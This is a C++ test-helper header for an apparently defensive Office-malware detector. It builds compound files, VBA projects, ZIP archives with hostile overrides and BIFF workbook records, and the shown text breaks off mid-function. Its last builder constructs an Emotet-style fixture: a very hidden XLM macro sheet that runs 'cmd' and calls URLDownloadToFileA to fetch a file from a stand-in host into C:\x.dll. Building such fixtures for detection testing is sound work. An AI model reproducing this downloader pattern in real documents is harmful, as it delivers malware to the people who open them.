// Test-only builders for Office container formats: CFB v3/v4 writer, literal-only MS-OVBA
// compressor, dir/PROJECT stream builders, ZIP writer (stored, deflate, ZIP64 extras), BIFF records.
#pragma once

#include <zlib.h>

#include <algorithm>
#include <cstdint>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "emoguard/bytes.hpp"

namespace emoguard::testing {

using Bytes = std::vector<std::uint8_t>;

// ------------------------------------------------------------------ little-endian helpers

inline void put8(std::string& b, std::size_t off, std::uint8_t v) {
  if (b.size() < off + 1) b.resize(off + 1, '\0');
  b[off] = static_cast<char>(v);
}
inline void put16(std::string& b, std::size_t off, std::uint16_t v) {
  put8(b, off, static_cast<std::uint8_t>(v));
  put8(b, off + 1, static_cast<std::uint8_t>(v >> 8));
}
inline void put32(std::string& b, std::size_t off, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) put8(b, off + static_cast<std::size_t>(i), static_cast<std::uint8_t>(v >> (8 * i)));
}
inline void put64(std::string& b, std::size_t off, std::uint64_t v) {
  for (int i = 0; i < 8; ++i) put8(b, off + static_cast<std::size_t>(i), static_cast<std::uint8_t>(v >> (8 * i)));
}
inline void app8(std::string& b, std::uint8_t v) { b.push_back(static_cast<char>(v)); }
inline void app16(std::string& b, std::uint16_t v) { put16(b, b.size(), v); }
inline void app32(std::string& b, std::uint32_t v) { put32(b, b.size(), v); }
inline void app64(std::string& b, std::uint64_t v) { put64(b, b.size(), v); }
inline std::uint32_t get32(std::string_view b, std::size_t off) {
  std::uint32_t v = 0;
  for (int i = 3; i >= 0; --i) v = (v << 8) | static_cast<std::uint8_t>(b.at(off + static_cast<std::size_t>(i)));
  return v;
}

inline ByteView view(const std::string& s) { return ByteView(std::string_view(s)); }
inline ByteView view(const Bytes& b) { return ByteView(b.data(), b.size()); }
inline std::string str(const Bytes& b) { return std::string(b.begin(), b.end()); }

// ASCII (or already-UTF-16 code units below 0x80) to UTF-16LE bytes.
inline std::string utf16le(std::string_view ascii) {
  std::string out;
  for (const char c : ascii) {
    out.push_back(c);
    out.push_back('\0');
  }
  return out;
}
// UTF-8 to UTF-16LE (BMP and supplementary planes), for names and PowerShell payloads.
inline std::string utf8_to_utf16le(std::string_view s) {
  std::string out;
  auto unit = [&](std::uint32_t u) {
    out.push_back(static_cast<char>(u & 0xFF));
    out.push_back(static_cast<char>(u >> 8));
  };
  for (std::size_t i = 0; i < s.size();) {
    const auto c = static_cast<unsigned char>(s[i]);
    std::uint32_t cp = 0;
    std::size_t n = 1;
    if (c < 0x80) cp = c;
    else if ((c >> 5) == 6) cp = c & 0x1F, n = 2;
    else if ((c >> 4) == 14) cp = c & 0x0F, n = 3;
    else cp = c & 0x07, n = 4;
    for (std::size_t k = 1; k < n && i + k < s.size(); ++k) cp = (cp << 6) | (static_cast<unsigned char>(s[i + k]) & 0x3F);
    i += n;
    if (cp >= 0x10000) {
      cp -= 0x10000;
      unit(0xD800 + (cp >> 10));
      unit(0xDC00 + (cp & 0x3FF));
    } else {
      unit(cp);
    }
  }
  return out;
}

inline std::string from_hex(std::string_view hex) {
  std::string out;
  int hi = -1;
  for (const char c : hex) {
    int v = -1;
    if (c >= '0' && c <= '9') v = c - '0';
    else if (c >= 'a' && c <= 'f') v = c - 'a' + 10;
    else if (c >= 'A' && c <= 'F') v = c - 'A' + 10;
    if (v < 0) continue;  // spaces
    if (hi < 0) {
      hi = v;
    } else {
      out.push_back(static_cast<char>(hi * 16 + v));
      hi = -1;
    }
  }
  return out;
}

// Deterministic pseudo-random printable text (VBA-ish), for round trips.
inline std::string random_text(std::size_t n, std::uint32_t seed) {
  static constexpr std::string_view kAlphabet =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 =&()\"'.,_\r\n";
  std::string s;
  s.reserve(n);
  std::uint32_t x = seed * 2654435761U + 1;
  for (std::size_t i = 0; i < n; ++i) {
    x ^= x << 13;
    x ^= x >> 17;
    x ^= x << 5;
    s.push_back(kAlphabet[x % kAlphabet.size()]);
  }
  return s;
}

// The test corpus folder, or empty when it is not there.
inline std::string testdata_dir() {
  if (const char* env = std::getenv("EMOGUARD_TESTDATA"); env != nullptr && *env != '\0') return env;
  const std::string def = std::string(EMOGUARD_SOURCE_DIR) + "/../shared/testdata";
  std::ifstream probe(def + "/SOURCES.md");
  return probe ? def : std::string();
}
inline std::optional<std::string> read_whole_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return std::nullopt;
  return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

// ------------------------------------------------------------------ CFB writer

inline constexpr std::uint32_t kCfbEnd = 0xFFFFFFFE;
inline constexpr std::uint32_t kCfbFree = 0xFFFFFFFF;
inline constexpr std::uint32_t kCfbFatSect = 0xFFFFFFFD;
inline constexpr std::uint32_t kCfbNoStream = 0xFFFFFFFF;

// A compound file written the simple way: FAT sectors first, then the directory, the miniFAT, the
// mini stream and the regular streams, each contiguous. Siblings are a right-linked chain (a valid
// binary tree, though not ordered or balanced as a red-black tree would be: readers do not rely on it).
// After build(), the layout members tell tests where to tamper.
class CfbBuilder {
 public:
  explicit CfbBuilder(int major_version = 3) : major_(major_version), shift_(major_version == 4 ? 12 : 9) {
    nodes_.push_back(Node{"Root Entry", 5, {}, kCfbNoStream, {}});
  }
  static constexpr std::uint32_t kRoot = 0;

  std::uint32_t add_storage(std::uint32_t parent, std::string name) { return add(parent, std::move(name), 1, {}); }
  std::uint32_t add_stream(std::uint32_t parent, std::string name, std::string data) {
    return add(parent, std::move(name), 2, std::move(data));
  }

  std::string build() {
    const std::uint64_t ss = std::uint64_t{1} << shift_;
    const std::size_t n = nodes_.size();
    // Mini streams and the mini stream itself.
    std::vector<std::uint32_t> mini_start(n, kCfbEnd), reg_start(n, kCfbEnd), reg_count(n, 0);
    std::string mini;
    std::vector<std::uint32_t> minifat;
    for (std::size_t i = 1; i < n; ++i) {
      const auto& d = nodes_[i];
      if (d.type != 2 || d.data.empty() || d.data.size() >= 4096) continue;
      const auto first = static_cast<std::uint32_t>(mini.size() / 64);
      const std::size_t count = (d.data.size() + 63) / 64;
      mini += d.data;
      mini.resize(mini.size() + (count * 64 - d.data.size()), '\0');
      for (std::size_t k = 0; k < count; ++k) minifat.push_back(k + 1 == count ? kCfbEnd : first + static_cast<std::uint32_t>(k) + 1);
      mini_start[i] = first;
    }
    const std::uint64_t per_dir = ss / 128;
    const std::uint64_t dir_sectors = (n + per_dir - 1) / per_dir;
    const std::uint64_t minifat_sectors = (minifat.size() * 4 + ss - 1) / ss;
    const std::uint64_t mini_sectors = (mini.size() + ss - 1) / ss;
    std::uint64_t regular = 0;
    for (std::size_t i = 1; i < n; ++i) {
      if (nodes_[i].type == 2 && nodes_[i].data.size() >= 4096) regular += (nodes_[i].data.size() + ss - 1) / ss;
    }
    const std::uint64_t others = dir_sectors + minifat_sectors + mini_sectors + regular;
    std::uint64_t fat_sectors = 1;
    while (fat_sectors * (ss / 4) < fat_sectors + others) ++fat_sectors;
    if (fat_sectors > 109) throw std::runtime_error("CfbBuilder: too large for a DIFAT-free file");
    const std::uint64_t total = fat_sectors + others;

    std::vector<std::uint32_t> fat(static_cast<std::size_t>(fat_sectors * (ss / 4)), kCfbFree);
    std::uint32_t next = 0;
    auto chain = [&](std::uint64_t count) {
      const std::uint32_t first = next;
      for (std::uint64_t k = 0; k < count; ++k) fat[next + k] = k + 1 == count ? kCfbEnd : next + static_cast<std::uint32_t>(k) + 1;
      next += static_cast<std::uint32_t>(count);
      return count ? first : kCfbEnd;
    };
    fat_ids.clear();
    for (std::uint64_t k = 0; k < fat_sectors; ++k) {
      fat[next] = kCfbFatSect;
      fat_ids.push_back(next++);
    }
    first_dir = chain(dir_sectors);
    dir_ids.clear();
    for (std::uint64_t k = 0; k < dir_sectors; ++k) dir_ids.push_back(first_dir + static_cast<std::uint32_t>(k));
    first_minifat = chain(minifat_sectors);
    mini_stream_start = chain(mini_sectors);
    stream_sectors.assign(n, {});
    for (std::size_t i = 1; i < n; ++i) {
      if (nodes_[i].type != 2 || nodes_[i].data.size() < 4096) continue;
      const std::uint64_t c = (nodes_[i].data.size() + ss - 1) / ss;
      reg_start[i] = chain(c);
      for (std::uint64_t k = 0; k < c; ++k) stream_sectors[i].push_back(reg_start[i] + static_cast<std::uint32_t>(k));
    }
    for (std::size_t k = 0; k < (mini.size() + ss - 1) / ss; ++k) stream_sectors[0].push_back(mini_stream_start + static_cast<std::uint32_t>(k));

    std::string f(static_cast<std::size_t>(ss * (total + 1)), '\0');
    header_size = static_cast<std::size_t>(ss);
    sector_size = static_cast<std::size_t>(ss);
    // Header.
    const std::string magic = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1";
    f.replace(0, 8, magic);
    put16(f, 0x18, 0x3E);
    put16(f, 0x1A, static_cast<std::uint16_t>(major_));
    put16(f, 0x1C, 0xFFFE);
    put16(f, 0x1E, static_cast<std::uint16_t>(shift_));
    put16(f, 0x20, 6);
    put32(f, 0x28, major_ == 4 ? static_cast<std::uint32_t>(dir_sectors) : 0);
    put32(f, 0x2C, static_cast<std::uint32_t>(fat_sectors));
    put32(f, 0x30, first_dir);
    put32(f, 0x38, 0x1000);
    put32(f, 0x3C, first_minifat);
    put32(f, 0x40, static_cast<std::uint32_t>(minifat_sectors));
    put32(f, 0x44, kCfbEnd);
    put32(f, 0x48, 0);
    for (std::size_t k = 0; k < 109; ++k) put32(f, 0x4C + 4 * k, k < fat_ids.size() ? fat_ids[k] : kCfbFree);
    // FAT.
    for (std::size_t k = 0; k < fat.size(); ++k) put32(f, fat_entry_offset(static_cast<std::uint32_t>(k)), fat[k]);
    // MiniFAT (unused entries are FREESECT).
    if (minifat_sectors) {
      const std::size_t base = sector_offset(first_minifat);
      for (std::size_t k = 0; k < minifat_sectors * ss / 4; ++k) put32(f, base + 4 * k, k < minifat.size() ? minifat[k] : kCfbFree);
    }
    // Mini stream and regular streams.
    if (!mini.empty()) f.replace(sector_offset(mini_stream_start), mini.size(), mini);
    for (std::size_t i = 1; i < n; ++i) {
      if (reg_start[i] != kCfbEnd) f.replace(sector_offset(reg_start[i]), nodes_[i].data.size(), nodes_[i].data);
    }
    // Directory: unused slots have no links.
    for (std::size_t k = 0; k < dir_sectors * per_dir; ++k) {
      const std::size_t off = entry_offset(static_cast<std::uint32_t>(k));
      put32(f, off + 0x44, kCfbNoStream);
      put32(f, off + 0x48, kCfbNoStream);
      put32(f, off + 0x4C, kCfbNoStream);
    }
    for (std::size_t i = 0; i < n; ++i) {
      const auto& d = nodes_[i];
      const std::size_t off = entry_offset(static_cast<std::uint32_t>(i));
      const std::string name16 = utf8_to_utf16le(d.name).substr(0, 62);
      f.replace(off, name16.size(), name16);
      put16(f, off + 0x40, static_cast<std::uint16_t>(name16.size() + 2));
      put8(f, off + 0x42, d.type);
      put8(f, off + 0x43, 1);  // black
      const std::uint32_t right = next_sibling(static_cast<std::uint32_t>(i));
      put32(f, off + 0x48, right);
      put32(f, off + 0x4C, d.children.empty() ? kCfbNoStream : d.children.front());
      if (i == 0) {
        put32(f, off + 0x74, mini.empty() ? kCfbEnd : mini_stream_start);
        put64(f, off + 0x78, mini.size());
      } else if (d.type == 2) {
        put32(f, off + 0x74, d.data.size() >= 4096 ? reg_start[i] : mini_start[i]);
        put64(f, off + 0x78, d.data.size());
      }
    }
    return f;
  }

  // Layout after build().
  [[nodiscard]] std::size_t sector_offset(std::uint32_t s) const { return (std::size_t{s} + 1) << shift_; }
  [[nodiscard]] std::size_t fat_entry_offset(std::uint32_t s) const {
    const std::size_t per = (std::size_t{1} << shift_) / 4;
    return sector_offset(fat_ids.at(s / per)) + 4 * (s % per);
  }
  [[nodiscard]] std::size_t entry_offset(std::uint32_t id) const {
    const std::size_t per = (std::size_t{1} << shift_) / 128;
    return sector_offset(dir_ids.at(id / per)) + 128 * (id % per);
  }
  std::size_t header_size = 0;
  std::size_t sector_size = 0;
  std::vector<std::uint32_t> fat_ids;
  std::vector<std::uint32_t> dir_ids;
  std::uint32_t first_dir = kCfbEnd;
  std::uint32_t first_minifat = kCfbEnd;
  std::uint32_t mini_stream_start = kCfbEnd;
  std::vector<std::vector<std::uint32_t>> stream_sectors;  // regular-sector chain per entry id (root: the mini stream)

 private:
  struct Node {
    std::string name;
    std::uint8_t type;
    std::string data;
    std::uint32_t parent;
    std::vector<std::uint32_t> children;
  };
  std::uint32_t add(std::uint32_t parent, std::string name, std::uint8_t type, std::string data) {
    const auto id = static_cast<std::uint32_t>(nodes_.size());
    nodes_.push_back(Node{std::move(name), type, std::move(data), parent, {}});
    nodes_.at(parent).children.push_back(id);
    return id;
  }
  std::uint32_t next_sibling(std::uint32_t id) const {
    if (id == 0) return kCfbNoStream;
    const auto& sibs = nodes_[nodes_[id].parent].children;
    const auto it = std::find(sibs.begin(), sibs.end(), id);
    return it + 1 == sibs.end() ? kCfbNoStream : *(it + 1);
  }

  int major_;
  int shift_;
  std::vector<Node> nodes_;
};

// ------------------------------------------------------------------ MS-OVBA

// §2.4.1 compressed container where every token is a literal: a 4096-byte piece becomes a raw
// chunk (its literal-only form would exceed 4098 bytes), a shorter piece a compressed chunk of
// literals. A final piece too long for literals (3641..4095 bytes) is split in two compressed chunks.
inline std::string ovba_compress_literal(std::string_view data) {
  std::string out(1, '\x01');
  auto compressed_chunk = [&](std::string_view piece) {
    std::string body;
    for (std::size_t i = 0; i < piece.size(); i += 8) {
      body.push_back('\0');  // flag byte: 8 literals
      body.append(piece.substr(i, 8));
    }
    const std::size_t size = body.size() + 2;
    app16(out, static_cast<std::uint16_t>(0xB000 | (size - 3)));
    out += body;
  };
  std::size_t pos = 0;
  while (pos < data.size()) {
    const std::size_t n = std::min<std::size_t>(4096, data.size() - pos);
    if (n == 4096) {
      app16(out, 0x3FFF);  // raw chunk: size 4098, signature 0b011, flag 0
      out.append(data.substr(pos, 4096));
    } else if (n <= 3640) {
      compressed_chunk(data.substr(pos, n));
    } else {
      compressed_chunk(data.substr(pos, 3640));
      compressed_chunk(data.substr(pos + 3640, n - 3640));
    }
    pos += n;
  }
  return out;
}

// dir stream records ([MS-OVBA] §2.3.4.2), uncompressed.
class DirBuilder {
 public:
  DirBuilder& rec(std::uint16_t id, std::string_view data) {
    app16(s_, id);
    app32(s_, static_cast<std::uint32_t>(data.size()));
    s_.append(data);
    return *this;
  }
  DirBuilder& rec32(std::uint16_t id, std::uint32_t v) {
    std::string d;
    app32(d, v);
    return rec(id, d);
  }
  DirBuilder& rec16(std::uint16_t id, std::uint16_t v) {
    std::string d;
    app16(d, v);
    return rec(id, d);
  }
  DirBuilder& raw(std::string_view bytes) {
    s_.append(bytes);
    return *this;
  }
  // The information records, up to and including PROJECTCONSTANTS; a reference without its
  // unicode part when reference_without_unicode (the POI 62625.bin shape).
  DirBuilder& project(std::uint16_t codepage, std::string_view name, std::uint32_t version_major = 0x5B0D4F2A,
                      std::uint16_t version_minor = 0x0011, bool reference_without_unicode = false) {
    rec32(0x0001, 1);  // SYSKIND Win32
    rec32(0x0002, 0x0411);
    rec32(0x0014, 0x0411);
    rec16(0x0003, codepage);
    rec(0x0004, name);
    rec(0x0005, "doc").rec(0x0040, utf16le("doc"));
    rec(0x0006, "").rec(0x003D, "");
    rec32(0x0007, 0);
    rec32(0x0008, 0);
    // PROJECTVERSION: the size field says 4 but 6 bytes follow (Reserved=4, major u32, minor u16).
    app16(s_, 0x0009);
    app32(s_, 4);
    app32(s_, version_major);
    app16(s_, version_minor);
    rec(0x000C, "").rec(0x003C, "");
    // One registered reference (stdole).
    rec(0x0016, "stdole");
    if (!reference_without_unicode) rec(0x003E, utf16le("stdole"));
    const std::string libid = "*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\system32\\stdole2.tlb#OLE Automation";
    std::string reg;
    app32(reg, static_cast<std::uint32_t>(libid.size()));
    reg += libid;
    app32(reg, 0);
    app16(reg, 0);
    rec(0x000D, reg);
    return *this;
  }
  DirBuilder& modules_header(std::uint16_t count) {
    rec16(0x000F, count);
    rec16(0x0013, 0xFFFF);
    return *this;
  }
  DirBuilder& module(std::string_view name, std::string_view stream_name, std::uint32_t text_offset, bool procedural,
                     std::string_view name_unicode_utf16 = {}, bool terminate = true) {
    rec(0x0019, name);
    if (!name_unicode_utf16.empty()) rec(0x0047, name_unicode_utf16);
    rec(0x001A, stream_name).rec(0x0032, name_unicode_utf16.empty() ? utf16le(stream_name) : std::string(name_unicode_utf16));
    rec(0x001C, "").rec(0x0048, "");
    rec32(0x0031, text_offset);
    rec32(0x001E, 0);
    rec16(0x002C, 0xFFFF);
    rec(procedural ? 0x0021 : 0x0022, "");
    if (terminate) rec(0x002B, "");
    return *this;
  }
  DirBuilder& end() {
    rec(0x0010, "");
    return *this;
  }
  [[nodiscard]] const std::string& bytes() const { return s_; }

 private:
  std::string s_;
};

// A module stream: p-code-like filler of text_offset bytes, then the compressed source.
inline std::string module_stream(std::string_view source, std::size_t text_offset = 0) {
  std::string s(text_offset, '\xAA');
  s += ovba_compress_literal(source);
  return s;
}

struct VbaModuleSpec {
  VbaModuleSpec(std::string n, std::string src, bool proc = true, bool listed = true)
      : name(std::move(n)), source(std::move(src)), procedural(proc), listed_in_project(listed) {}
  std::string name;
  std::string source;
  bool procedural = true;
  bool listed_in_project = true;
  std::size_t text_offset = 16;
  bool has_stream = true;                    // false: the dir names a stream that is not there
  std::optional<std::uint32_t> dir_offset;   // MODULEOFFSET to write instead of text_offset
};

// A VBA project inside a CFB: <parent>/{PROJECT, PROJECTwm, VBA/{dir, _VBA_PROJECT, modules}}.
// parent kRoot: a vbaProject.bin; a "Macros" storage: Word; "_VBA_PROJECT_CUR": Excel.
inline void add_vba_project(CfbBuilder& b, std::uint32_t parent, const std::vector<VbaModuleSpec>& modules) {
  std::string project = "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n";
  for (const auto& m : modules) {
    if (!m.listed_in_project) continue;
    project += m.procedural ? "Module=" + m.name + "\r\n" : "Document=" + m.name + "/&H00000000\r\n";
  }
  project += "Name=\"Project\"\r\nHelpContextID=\"0\"\r\nVersionCompatible32=\"393222000\"\r\n";
  project += "CMG=\"F1F301E705E705E705E705\"\r\nDPB=\"8F8D7FE3831F2020202020\"\r\nGC=\"2D2FDD81E51EE61EE6E1\"\r\n\r\n";
  project += "[Host Extender Info]\r\n&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n";
  b.add_stream(parent, "PROJECT", project);
  std::string wm;
  for (const auto& m : modules) wm += m.name + '\0' + utf16le(m.name) + std::string(2, '\0');
  wm += std::string(2, '\0');
  b.add_stream(parent, "PROJECTwm", wm);
  const auto vba = b.add_storage(parent, "VBA");
  DirBuilder dir;
  dir.project(1252, "Project").modules_header(static_cast<std::uint16_t>(modules.size()));
  for (const auto& m : modules) dir.module(m.name, m.name, m.dir_offset.value_or(static_cast<std::uint32_t>(m.text_offset)), m.procedural);
  dir.end();
  b.add_stream(vba, "dir", ovba_compress_literal(dir.bytes()));
  b.add_stream(vba, "_VBA_PROJECT", std::string("\xCC\x61\xB5\x00\x00\x03\x00", 7));
  for (const auto& m : modules) {
    if (m.has_stream) b.add_stream(vba, m.name, module_stream(m.source, m.text_offset));
  }
}

// ------------------------------------------------------------------ ZIP writer

struct ZipEntry {
  std::string name;
  std::string data;
  bool deflate = false;
  // Overrides for hostile archives.
  std::optional<std::uint32_t> crc;
  std::optional<std::uint64_t> declared_size;
  std::optional<std::string> raw_compressed;  // written as the member's data instead of compressing
  std::uint16_t flags = 0;
  bool zip64 = false;  // 0xFFFFFFFF in the 32-bit fields, real sizes in a 0x0001 extra
};

inline std::string raw_deflate(std::string_view data, int level = 6) {
  z_stream zs{};
  if (deflateInit2(&zs, level, Z_DEFLATED, -MAX_WBITS, 8, Z_DEFAULT_STRATEGY) != Z_OK) throw std::runtime_error("deflateInit2");
  std::string out(deflateBound(&zs, static_cast<uLong>(data.size())), '\0');
  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  zs.avail_in = static_cast<uInt>(data.size());
  zs.next_out = reinterpret_cast<Bytef*>(out.data());
  zs.avail_out = static_cast<uInt>(out.size());
  if (deflate(&zs, Z_FINISH) != Z_STREAM_END) throw std::runtime_error("deflate");
  out.resize(zs.total_out);
  deflateEnd(&zs);
  return out;
}

// Raw deflate of `count` zero bytes without holding them in memory.
inline std::string raw_deflate_zeros(std::uint64_t count) {
  z_stream zs{};
  if (deflateInit2(&zs, 9, Z_DEFLATED, -MAX_WBITS, 8, Z_DEFAULT_STRATEGY) != Z_OK) throw std::runtime_error("deflateInit2");
  static const std::string zeros(1 << 16, '\0');
  std::string out;
  char buf[1 << 16];
  std::uint64_t left = count;
  int rc = Z_OK;
  do {
    const auto n = static_cast<uInt>(std::min<std::uint64_t>(left, zeros.size()));
    zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(zeros.data()));
    zs.avail_in = n;
    left -= n;
    const int flush = left == 0 ? Z_FINISH : Z_NO_FLUSH;
    do {
      zs.next_out = reinterpret_cast<Bytef*>(buf);
      zs.avail_out = sizeof buf;
      rc = deflate(&zs, flush);
      out.append(buf, sizeof buf - zs.avail_out);
    } while (zs.avail_out == 0);
  } while (left > 0 || rc != Z_STREAM_END);
  deflateEnd(&zs);
  return out;
}

inline std::uint32_t crc32_of(std::string_view s) {
  return static_cast<std::uint32_t>(::crc32(0L, reinterpret_cast<const Bytef*>(s.data()), static_cast<uInt>(s.size())));
}

struct ZipLayout {
  std::vector<std::size_t> local_offsets;
  std::vector<std::size_t> data_offsets;
  std::vector<std::size_t> central_offsets;
  std::size_t cd_offset = 0;
  std::size_t eocd_offset = 0;
};

inline std::string build_zip(const std::vector<ZipEntry>& entries, ZipLayout* layout = nullptr) {
  std::string out;
  std::string cd;
  ZipLayout l;
  for (const auto& e : entries) {
    const std::string payload = e.raw_compressed ? *e.raw_compressed : e.deflate ? raw_deflate(e.data) : e.data;
    const std::uint32_t crc = e.crc.value_or(crc32_of(e.data));
    const std::uint64_t size = e.declared_size.value_or(e.data.size());
    const std::uint64_t csize = payload.size();
    const std::uint16_t method = e.deflate ? 8 : 0;
    std::string extra;
    if (e.zip64) {
      app16(extra, 0x0001);
      app16(extra, 16);
      app64(extra, size);
      app64(extra, csize);
    }
    const std::uint32_t size32 = e.zip64 ? 0xFFFFFFFFU : static_cast<std::uint32_t>(size);
    const std::uint32_t csize32 = e.zip64 ? 0xFFFFFFFFU : static_cast<std::uint32_t>(csize);
    const std::size_t local = out.size();
    l.local_offsets.push_back(local);
    app32(out, 0x04034B50);
    app16(out, e.zip64 ? 45 : 20);
    app16(out, e.flags);
    app16(out, method);
    app16(out, 0);       // time
    app16(out, 0x5821);  // date
    app32(out, crc);
    app32(out, csize32);
    app32(out, size32);
    app16(out, static_cast<std::uint16_t>(e.name.size()));
    app16(out, static_cast<std::uint16_t>(extra.size()));
    out += e.name;
    out += extra;
    l.data_offsets.push_back(out.size());
    out += payload;

    l.central_offsets.push_back(cd.size());
    app32(cd, 0x02014B50);
    app16(cd, 0x031E);
    app16(cd, e.zip64 ? 45 : 20);
    app16(cd, e.flags);
    app16(cd, method);
    app16(cd, 0);
    app16(cd, 0x5821);
    app32(cd, crc);
    app32(cd, csize32);
    app32(cd, size32);
    app16(cd, static_cast<std::uint16_t>(e.name.size()));
    app16(cd, static_cast<std::uint16_t>(extra.size()));
    app16(cd, 0);  // comment
    app16(cd, 0);  // disk
    app16(cd, 0);  // internal attributes
    app32(cd, 0);  // external attributes
    app32(cd, static_cast<std::uint32_t>(local));
    cd += e.name;
    cd += extra;
  }
  l.cd_offset = out.size();
  for (auto& c : l.central_offsets) c += l.cd_offset;
  out += cd;
  l.eocd_offset = out.size();
  app32(out, 0x06054B50);
  app16(out, 0);
  app16(out, 0);
  app16(out, static_cast<std::uint16_t>(entries.size()));
  app16(out, static_cast<std::uint16_t>(entries.size()));
  app32(out, static_cast<std::uint32_t>(cd.size()));
  app32(out, static_cast<std::uint32_t>(l.cd_offset));
  app16(out, 0);
  if (layout) *layout = l;
  return out;
}

// ------------------------------------------------------------------ BIFF

inline std::string biff_record(std::uint16_t type, std::string_view data) {
  std::string r;
  app16(r, type);
  app16(r, static_cast<std::uint16_t>(data.size()));
  r.append(data);
  return r;
}
inline std::string biff_bof(std::uint16_t dt, std::uint16_t version = 0x0600) {
  std::string d;
  app16(d, version);
  app16(d, dt);
  app16(d, 0x0DBB);  // build
  app16(d, 0x07CC);  // year
  if (version == 0x0600) {
    app32(d, 0x000100C1);
    app32(d, 0x00000406);
  }
  return biff_record(0x0809, d);
}
inline std::string biff_eof() { return biff_record(0x000A, ""); }
// BOUNDSHEET8 (BIFF8) or BOUNDSHEET (BIFF5); lbPlyPos patched later by the caller.
inline std::string biff_boundsheet(std::uint32_t pos, std::uint8_t hs_state, std::uint8_t dt, std::string_view name, bool biff5 = false) {
  std::string d;
  app32(d, pos);
  app8(d, hs_state);
  app8(d, dt);
  app8(d, static_cast<std::uint8_t>(name.size()));
  if (!biff5) app8(d, 0);  // fHighByte: compressed
  d.append(name);
  return biff_record(0x0085, d);
}
// PtgStr: BIFF8 (cch, fHighByte, chars) or BIFF5 (cch, chars). wide: chars are UTF-16LE (cch = units).
inline std::string ptg_str(std::string_view chars, bool wide = false, bool biff5 = false) {
  std::string p(1, '\x17');
  app8(p, static_cast<std::uint8_t>(wide ? chars.size() / 2 : chars.size()));
  if (!biff5) app8(p, wide ? 1 : 0);
  p.append(chars);
  return p;
}
inline std::string ptg_int(std::uint16_t v) {
  std::string p(1, '\x1E');
  app16(p, v);
  return p;
}
inline std::string ptg_funcvar(std::uint8_t argc, std::uint16_t iftab) {
  std::string p(1, '\x42');
  app8(p, argc);
  app16(p, iftab);
  return p;
}
// FORMULA (BIFF5 and BIFF8 share this layout): rw, col, ixfe, value, flags, chn, cce, rgce.
inline std::string biff_formula(std::uint16_t row, std::uint16_t col, std::string_view rgce, std::optional<std::uint16_t> cce = {}) {
  std::string d;
  app16(d, row);
  app16(d, col);
  app16(d, 0x0F);
  app64(d, 0xFFFF000000000000ULL);
  app16(d, 0);
  app32(d, 0);
  app16(d, cce.value_or(static_cast<std::uint16_t>(rgce.size())));
  d.append(rgce);
  return biff_record(0x0006, d);
}

inline std::string lbl_builtin(std::uint8_t id, std::string_view rgce, std::uint16_t flags = 0x0020) {
  std::string d;
  app16(d, flags);
  app8(d, 0);  // chKey
  app8(d, 1);  // cch: one byte, the built-in id
  app16(d, static_cast<std::uint16_t>(rgce.size()));
  app16(d, 0);
  app16(d, 0);  // itab: global
  app32(d, 0);
  app8(d, 0);   // fHighByte
  app8(d, id);
  d.append(rgce);
  return biff_record(0x0018, d);
}
inline std::string lbl_named(std::string_view name, std::string_view rgce, std::uint16_t flags = 0) {
  std::string d;
  app16(d, flags);
  app8(d, 0);
  app8(d, static_cast<std::uint8_t>(name.size()));
  app16(d, static_cast<std::uint16_t>(rgce.size()));
  app16(d, 0);
  app16(d, 0);
  app32(d, 0);
  app8(d, 0);
  d.append(name);
  d.append(rgce);
  return biff_record(0x0018, d);
}
inline std::string externsheet(const std::vector<std::uint16_t>& first_sheets) {
  std::string d;
  app16(d, static_cast<std::uint16_t>(first_sheets.size()));
  for (const auto s : first_sheets) {
    app16(d, 0);
    app16(d, s);
    app16(d, s);
  }
  return biff_record(0x0017, d);
}
inline std::string ptg_ref3d(std::uint16_t ixti, std::uint16_t row, std::uint16_t col) {
  std::string p(1, '\x3A');
  app16(p, ixti);
  app16(p, row);
  app16(p, col);
  return p;
}

// A workbook stream: globals (BOF, optional records, BOUNDSHEETs, more records, EOF), then one
// substream per sheet; the BOUNDSHEET offsets are patched in.
struct SheetSpec {
  std::string name;
  std::uint8_t hs_state = 0;
  std::uint8_t boundsheet_dt = 0;
  std::uint16_t bof_dt = 0x0010;
  std::vector<std::string> records;  // between BOF and EOF
};
inline std::string workbook(const std::vector<SheetSpec>& sheets, const std::vector<std::string>& extra_globals, bool biff5 = false,
                            const std::string& before_sheets = {}) {
  const std::uint16_t ver = biff5 ? 0x0500 : 0x0600;
  std::string g = biff_bof(0x0005, ver);
  g += before_sheets;
  std::vector<std::size_t> patch;
  for (const auto& s : sheets) {
    patch.push_back(g.size() + 4);
    g += biff_boundsheet(0, s.hs_state, s.boundsheet_dt, s.name, biff5);
  }
  for (const auto& r : extra_globals) g += r;
  g += biff_eof();
  for (std::size_t i = 0; i < sheets.size(); ++i) {
    put32(g, patch[i], static_cast<std::uint32_t>(g.size()));
    g += biff_bof(sheets[i].bof_dt, ver);
    for (const auto& r : sheets[i].records) g += r;
    g += biff_eof();
  }
  return g;
}

// The 2021-22 Emotet .xls shape: a visible sheet, a very hidden macro sheet "Macro1" that
// Auto_Open points at, with ALERT, EXEC, CALL(urlmon URLDownloadToFileA) and HALT.
inline std::string xlm_downloader_workbook() {
  SheetSpec visible{"Sheet1", 0, 0, 0x0010, {}};
  SheetSpec macro{"Macro1", 2, 1, 0x0040, {}};
  const std::string call = ptg_str("urlmon") + ptg_str("URLDownloadToFileA") + ptg_str("JJCCJJ") + ptg_int(0) +
                           ptg_str("http://example.invalid/x") + ptg_str("C:\\x.dll") + ptg_int(0) + ptg_int(0) + ptg_funcvar(8, 150);
  macro.records = {
      biff_formula(0, 0, ptg_str("Hello") + ptg_funcvar(1, 0x8076)),
      biff_formula(1, 0, ptg_str("cmd") + ptg_funcvar(1, 110)),
      biff_formula(2, 0, call),
      biff_formula(3, 0, ptg_funcvar(0, 54)),
  };
